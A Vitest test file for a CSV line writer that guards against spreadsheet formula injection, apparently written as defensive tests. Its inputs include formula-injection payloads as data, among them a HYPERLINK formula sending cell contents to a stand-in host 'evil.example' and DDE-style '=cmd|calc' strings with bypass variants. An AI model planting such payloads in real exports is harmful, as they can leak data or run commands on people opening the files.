import { expect, it } from 'vitest';
import { csvLine } from './csv-line.ts';

it('writes what a spreadsheet reads back', () => {
  expect(csvLine(['plain', 'with, comma', 'a "quote"', 'two\nlines', 7, true, null])).toBe(
    'plain,"with, comma","a ""quote""","two\nlines",7,true,\r\n',
  );
});

it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\r=1'])('does not let %j become a formula', (value) => {
  expect(csvLine([value])).toMatch(/^"?'/);
});

it.each([
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  ' =1+1',
  '\r=1+1',
  '\u0000=1+1',
  '＝1+1',
  '|calc',
  '%0A=1',
])('shows %j as text in a spreadsheet', (typed) => {
  const [, shown] = /^"?(.)/su.exec(csvLine([typed])) ?? [];
  expect(shown).toBe("'");
});

it.each([
  [';=cmd', ";'=cmd"],
  ['tea;=cmd|calc', "tea;'=cmd|calc"],
  ['tea\t=1', "tea\t'=1"],
  ['tea; +1', "tea;' +1"],
  ['tea;;@SUM', "tea;;'@SUM"],
  ['tea\r\n-1', "tea\r\n'-1"],
  ['tea\r=1', "tea\r'=1"],
  ['tea;"=1"', `tea;'"=1"`],
])('Z09: %j starts no formula where semicolons or tabs separate cells', (typed, written) => {
  expect(csvLine([typed])).toBe(`"${written.replaceAll('"', '""')}"\r\n`);
});

it('keeps everything else as it is, in one cell', () => {
  expect(csvLine(['Durand & Co', -3, true, null, undefined])).toBe('Durand & Co,-3,true,,\r\n');
  expect(csvLine(['say "hi", twice\nplease', { a: [1] }])).toBe('"say ""hi"", twice\nplease","{""a"":[1]}"\r\n');
  expect(csvLine(['a=b', '2026-11-17T00:00:00Z'])).toBe('a=b,2026-11-17T00:00:00Z\r\n');
});
